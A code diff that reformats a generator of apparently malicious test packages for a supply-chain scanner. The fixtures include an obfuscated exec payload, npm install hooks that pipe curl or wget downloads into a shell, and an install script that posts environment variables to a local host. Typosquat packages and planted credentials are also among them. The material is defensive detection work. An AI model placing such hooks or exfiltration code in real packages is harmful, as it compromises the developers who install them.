@@ -20,8 +20,13 @@ function write(root, files) {
 
 const b64 = text => Buffer.from(text).toString('base64');
 const zb64 = text => zlib.deflateSync(Buffer.from(text)).toString('base64');
-const randomUpper = n => Array.from(crypto.randomBytes(n), b => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[b % 32]).join('');
-const randomAlnum = n => Array.from(crypto.randomBytes(n), b => 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'[b % 62]).join('');
+const randomUpper = n =>
+  Array.from(crypto.randomBytes(n), b => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[b % 32]).join('');
+const randomAlnum = n =>
+  Array.from(
+    crypto.randomBytes(n),
+    b => 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'[b % 62]
+  ).join('');
 
 const PY_MODULE = '"""Helpers."""\n\n\ndef add(a, b):\n    return a + b\n';
 
@@ -99,7 +104,8 @@ setup(name="envreport", version="1.0.2", py_modules=["envreport"], cmdclass={"in
       kind: 'obfuscated exec',
       why: 'package import runs exec(zlib.decompress(base64.b64decode(...)))',
       files: {
-        'setup.py': 'from setuptools import setup\n\nsetup(name="colorfmt", version="0.3.1", packages=["colorfmt"])\n',
+        'setup.py':
+          'from setuptools import setup\n\nsetup(name="colorfmt", version="0.3.1", packages=["colorfmt"])\n',
         'colorfmt/__init__.py': `import base64
 import zlib
 
@@ -131,7 +137,17 @@ setup(name="quickcache", version="0.0.9", py_modules=["quickcache"])
       kind: 'lifecycle-script downloader',
       why: 'npm postinstall pipes http://evil.invalid/x into sh',
       files: {
-        'package.json': JSON.stringify({ name: 'color-logger-x', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'curl http://evil.invalid/x | sh' } }, null, 2) + '\n',
+        'package.json':
+          JSON.stringify(
+            {
+              name: 'color-logger-x',
+              version: '1.0.0',
+              main: 'index.js',
+              scripts: { postinstall: 'curl http://evil.invalid/x | sh' }
+            },
+            null,
+            2
+          ) + '\n',
         'index.js': 'module.exports = function log(msg) { console.log(msg); };\n'
       }
     },
@@ -140,7 +156,20 @@ setup(name="quickcache", version="0.0.9", py_modules=["quickcache"])
       kind: 'lifecycle-script downloader',
       why: 'npm preinstall fetches a script from 127.0.0.1 and runs it; install.js evals base64',
       files: {
-        'package.json': JSON.stringify({ name: 'node-env-sync', version: '2.1.0', main: 'index.js', scripts: { preinstall: 'wget -qO- http://127.0.0.1:8/setup.sh | bash', install: 'node install.js' } }, null, 2) + '\n',
+        'package.json':
+          JSON.stringify(
+            {
+              name: 'node-env-sync',
+              version: '2.1.0',
+              main: 'index.js',
+              scripts: {
+                preinstall: 'wget -qO- http://127.0.0.1:8/setup.sh | bash',
+                install: 'node install.js'
+              }
+            },
+            null,
+            2
+          ) + '\n',
         'install.js': `const https = require('http');\nconst os = require('os');\nconst data = JSON.stringify({ env: process.env, home: os.homedir() });\nconst req = https.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/c' }, () => {});\nreq.on('error', () => {});\nreq.end(data);\neval(Buffer.from('${b64("console.log('stage2')")}', 'base64').toString());\n`,
         'index.js': 'module.exports = {};\n'
       }
@@ -164,7 +193,8 @@ setup(
     license="Apache 2.0",
 )
 `,
-        'reqeusts/__init__.py': '"""Requests HTTP Library."""\n\n__version__ = "2.32.3"\n\n\ndef get(url, **kwargs):\n    raise NotImplementedError(url)\n'
+        'reqeusts/__init__.py':
+          '"""Requests HTTP Library."""\n\n__version__ = "2.32.3"\n\n\ndef get(url, **kwargs):\n    raise NotImplementedError(url)\n'
       }
     },
     {
@@ -172,7 +202,20 @@ setup(
       kind: 'typosquat name',
       why: 'one swap away from lodash (npm), copying its metadata',
       files: {
-        'package.json': JSON.stringify({ name: 'lodsah', version: '4.17.21', description: 'Lodash modular utilities.', homepage: 'https://lodash.com/', license: 'MIT', main: 'lodash.js', author: 'John-David Dalton <john.david.dalton@gmail.com>' }, null, 2) + '\n',
+        'package.json':
+          JSON.stringify(
+            {
+              name: 'lodsah',
+              version: '4.17.21',
+              description: 'Lodash modular utilities.',
+              homepage: 'https://lodash.com/',
+              license: 'MIT',
+              main: 'lodash.js',
+              author: 'John-David Dalton <john.david.dalton@gmail.com>'
+            },
+            null,
+            2
+          ) + '\n',
         'lodash.js': 'module.exports = { identity: x => x };\n'
       }
     },
@@ -181,7 +224,8 @@ setup(
       kind: 'committed keys',
       why: 'AWS access key pair, an RSA private key and a GitHub token committed in package code (generated at run time)',
       files: {
-        'setup.py': 'from setuptools import setup\n\nsetup(name="deploy-helpers", version="0.2.0", packages=["deploy_helpers"])\n',
+        'setup.py':
+          'from setuptools import setup\n\nsetup(name="deploy-helpers", version="0.2.0", packages=["deploy_helpers"])\n',
         'deploy_helpers/__init__.py': '',
         'deploy_helpers/settings.py': `AWS_ACCESS_KEY_ID = "${aws.id}"\nAWS_SECRET_ACCESS_KEY = "${aws.secret}"\nGITHUB_TOKEN = "${ghToken}"\nREGION = "eu-west-1"\n`,
         'deploy_helpers/deploy_key.pem': pem
@@ -192,7 +236,8 @@ setup(
       kind: 'vulnerable pins',
       why: 'requirements.txt pins requests==2.19.0 and urllib3==1.24.1 (known advisories in the OSV data)',
       files: {
-        'setup.py': 'from setuptools import setup\n\nsetup(name="webfetch-utils", version="0.1.0", py_modules=["webfetch_utils"], install_requires=["requests==2.19.0"])\n',
+        'setup.py':
+          'from setuptools import setup\n\nsetup(name="webfetch-utils", version="0.1.0", py_modules=["webfetch_utils"], install_requires=["requests==2.19.0"])\n',
         'requirements.txt': 'requests==2.19.0\nurllib3==1.24.1\n',
         'webfetch_utils.py': PY_MODULE
       }
